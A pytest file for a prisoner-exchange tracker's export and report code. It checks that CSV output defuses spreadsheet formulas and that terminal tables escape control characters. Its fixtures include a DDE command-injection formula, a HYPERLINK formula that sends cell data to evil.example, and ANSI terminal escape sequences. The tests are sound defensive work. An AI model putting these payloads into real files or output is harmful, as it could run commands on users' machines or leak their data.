"""Text from articles in outputs: formulas defused in CSV and never live in xlsx; control
characters shown as escapes on the terminal and made legal in xlsx; CSV and JSON otherwise
exact."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import Cli
from tests.reporting_data import enter_history
from tracker.cells import defuse_formula, for_terminal
from tracker.export import write_csv_rows

CALC = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE_ESC = "\x1b]0;PWNED\x07Kursk swap"
OUTLET_CSI = "\x1b[31mRed News\x1b[0m"
URL_ESC = "https://esc.example/\x1b[2J"


def negative_balance(cli: Cli) -> None:
    """A holding of 2,609 beside captured 909 - released 613: held_minus_reported is -2313."""
    cli.ok("add", "capture", "--captor", "UKR", "--captive", "RUS", "--count", "2609", "--kind",
           "holding", "--as-of", "2025-02-10", "--source", "1")


def add(cli: Cli, title: str, outlet: str, url: str | None = None) -> None:
    args = ["add", "source", "--title", title, "--outlet", outlet, "--published", "2025-03-01",
            "--text", "-"]
    cli.ok(*args, *(["--url", url] if url else []), input=f"Text of {title!r}.")  # one each


def rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output, newline="")))


def by_title(output: str) -> dict[str, dict[str, str]]:
    return {r["title"]: r for r in rows(output)}


# --- 3. formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value, defused", [
    (CALC, "'" + CALC), (HYPERLINK, "'" + HYPERLINK), (SUM, "'" + SUM), ("+1+cmd", "'+1+cmd"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"),
    ("-640", "-640"), ("+5", "+5"), (-640, -640), (2.5, 2.5), (None, None), ("", ""),
])
def test_the_formula_rule(value: object, defused: object) -> None:
    assert defuse_formula(value) == defused


@pytest.mark.parametrize("batch", [
    [[CALC, 1]], [[1, CALC]], [["a", 1], [CALC, 2]], [["x,y", "=1"]], [["two\nlines", "\rx"]],
    [["a", "b"]] * 3 + [[-5, "@x"]],
])
def test_every_cell_of_a_batch_is_looked_at(batch: list[list[object]]) -> None:
    fh = io.StringIO()
    write_csv_rows(batch, fh)
    assert list(csv.reader(io.StringIO(fh.getvalue(), newline=""))) == [
        [str(defuse_formula(v)) for v in row] for row in batch]


def test_csv_defuses_formulas_and_keeps_numbers(cli: Cli) -> None:
    enter_history(cli)
    negative_balance(cli)
    add(cli, CALC, SUM)
    add(cli, HYPERLINK, "+1+cmd")
    add(cli, "\tTabbed", "-2+3")
    got = by_title(cli.ok("export", "sources"))
    assert got["'" + CALC]["outlet"] == "'" + SUM
    assert got["'" + HYPERLINK]["outlet"] == "'+1+cmd"
    assert got["'\tTabbed"]["outlet"] == "'-2+3"
    raw = by_title(cli.ok("export", "sources", "--no-escape-formulas"))
    assert raw[CALC]["outlet"] == SUM and raw[HYPERLINK]["outlet"] == "+1+cmd"
    # negative numbers are numbers: held_minus_reported is -2313 etc., unquoted
    balance = cli.ok("export", "balance")
    assert ",-2313\n" in balance and "'-" not in balance
    assert balance == cli.ok("export", "balance", "--no-escape-formulas")
    # reports printed as CSV take the same rule
    assert "'" + SUM in cli.ok("report", "sources", "--format", "csv")
    # a text cell first on its line (here the only column) is looked at too
    assert f"'{CALC}" in cli.ok("sql", "SELECT title FROM sources WHERE title LIKE '=cmd%'",
                                "--format", "csv")


def test_json_and_parquet_keep_the_text_exact(cli: Cli, tmp_path: Path) -> None:
    import pandas as pd

    add(cli, CALC, SUM)
    assert json.loads(cli.ok("export", "sources", "--format", "json"))[0]["title"] == CALC
    cli.ok("export", "sources", "--format", "parquet", "--out", str(tmp_path / "s.parquet"))
    assert pd.read_parquet(tmp_path / "s.parquet")["title"].tolist() == [CALC]


@pytest.mark.parametrize("flag", [(), ("--no-escape-formulas",)])
def test_xlsx_cells_are_values_never_formulas(cli: Cli, tmp_path: Path, flag: tuple) -> None:
    enter_history(cli)
    negative_balance(cli)
    add(cli, CALC, "#N/A")
    add(cli, HYPERLINK, SUM)
    for args, name, sheet in ((("export", "sources", "--format", "xlsx", *flag), "s.xlsx", "data"),
                              (("export", "workbook"), "w.xlsx", "sources")):
        out = tmp_path / name
        cli.ok(*args, "--out", str(out))
        with zipfile.ZipFile(out) as archive:
            xml = "".join(archive.read(n).decode() for n in archive.namelist()
                          if n.startswith("xl/worksheets/"))
        assert "<f>" not in xml and "<f " not in xml
        ws = openpyxl.load_workbook(out)[sheet]
        cells = {c.value: c.data_type for row in ws.iter_rows(min_row=2) for c in row}
        for text in (CALC, HYPERLINK, SUM, "#N/A"):
            assert cells[text] == "s", text
    balance = openpyxl.load_workbook(tmp_path / "w.xlsx")["balance"]
    assert -2313 in {c.value for row in balance.iter_rows(min_row=2) for c in row}


def test_the_export_help_states_the_rule(cli: Cli) -> None:
    shown = " ".join(cli.ok("export", "--help").split())
    assert "--no-escape-formulas" in shown and "a leading '" in shown


# --- 4. control characters -----------------------------------------------------------------------


def test_terminal_escapes() -> None:
    assert for_terminal(TITLE_ESC) == "\\x1b]0;PWNED\\x07Kursk swap"
    assert for_terminal("a\nb\tc\rd\x7f\x9b") == "a\\nb\\tc\\rd\\x7f\\x9b"
    assert for_terminal("Київ — “ok” ≥700") == "Київ — “ok” ≥700"


def test_tables_show_control_characters_as_escapes(cli: Cli) -> None:
    add(cli, TITLE_ESC, OUTLET_CSI, URL_ESC)
    add(cli, "two\nlines", "Plain")
    for args in (("report", "sources"), ("sql", "SELECT id, title, outlet, url FROM sources"),
                 ("sql", "SELECT title AS \"a\x1b[2Jb\" FROM sources")):
        shown = cli.ok(*args)
        assert "\x1b" not in shown and "\x07" not in shown, args
    table = cli.ok("sql", "SELECT id, title, outlet, url FROM sources ORDER BY id")
    assert table.count("\n") == 2 + 2  # header, rule, one line per row
    assert "\\x1b]0;PWNED\\x07Kursk swap" in table and "two\\nlines" in table
    assert "\\x1b[31mRed News\\x1b[0m" in cli.ok("report", "sources")


def test_provenance_shows_control_characters_as_escapes(cli: Cli) -> None:
    add(cli, TITLE_ESC, OUTLET_CSI, URL_ESC)
    cli.ok("add", "exchange", "--date", "2025-03-01", "--source", "1", "-t", "UKR:RUS:5",
           "--claimant", "line one\nline two", "--quote", "quoted\x1b[1A\x1b[2Kover")
    shown = cli.ok("report", "provenance", "exchange:1")
    assert "\x1b" not in shown and "\x07" not in shown
    assert "\\x1b]0;PWNED\\x07Kursk swap" in shown and "line one\\nline two" in shown
    assert "https://esc.example/\\x1b[2J" in shown and "quoted\\x1b[1A\\x1b[2Kover" in shown
    # CSV and JSON keep the text exactly
    [row] = rows(cli.ok("report", "provenance", "exchange:1", "--format", "csv"))
    assert row["title"] == TITLE_ESC and row["claimant"] == "line one\nline two"
    [record] = json.loads(cli.ok("report", "provenance", "exchange:1", "--format", "json"))
    assert record["source_url"] == URL_ESC and record["outlet"] == OUTLET_CSI


def test_xlsx_takes_control_characters_csv_and_json_keep_them(cli: Cli, tmp_path: Path) -> None:
    add(cli, TITLE_ESC, OUTLET_CSI, URL_ESC)
    for args, name, sheet in ((("export", "sources", "--format", "xlsx"), "s.xlsx", "data"),
                              (("export", "workbook"), "w.xlsx", "sources")):
        cli.ok(*args, "--out", str(tmp_path / name))
        ws = openpyxl.load_workbook(tmp_path / name)[sheet]
        values = {c.value for row in ws.iter_rows(min_row=2) for c in row}
        assert {"\\x1b]0;PWNED\\x07Kursk swap", "\\x1b[31mRed News\\x1b[0m",
                "https://esc.example/\\x1b[2J"} <= values
    [row] = rows(cli.ok("export", "sources"))
    assert (row["title"], row["outlet"], row["url"]) == (TITLE_ESC, OUTLET_CSI, URL_ESC)
    [record] = json.loads(cli.ok("export", "sources", "--format", "json"))
    assert (record["title"], record["outlet"], record["url"]) == (TITLE_ESC, OUTLET_CSI, URL_ESC)


def test_csv_keeps_a_carriage_return_inside_a_cell(cli: Cli) -> None:
    add(cli, "first\rsecond", "Outlet\rTwo")
    for flag in ((), ("--no-escape-formulas",)):
        [row] = rows(cli.ok("export", "sources", *flag))
        assert (row["title"], row["outlet"]) == ("first\rsecond", "Outlet\rTwo")


def test_a_table_fits_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """`claims list` printed 408-character lines in a 100-column terminal: a table on a
    terminal cuts its widest text columns to fit (a pipe or a file still gets every character)."""
    from tracker.export import write

    quote = "Ukraine and Russia each released 150 prisoners of war on Wednesday. " * 4
    columns, rows = ["claim_id", "party", "count", "quote"], [(1, "RUS", 150, quote),
                                                              (22, "UKR", 9, "short")]
    write(columns, rows, "table", "-", width=80)
    cut = capsys.readouterr().out
    write(columns, rows, "table", "-")
    whole = capsys.readouterr().out
    assert max(len(line) for line in cut.splitlines()) <= 80 and "…" in cut
    assert quote.strip() in whole
    assert cut.splitlines()[3].startswith("      22  UKR        9  short")
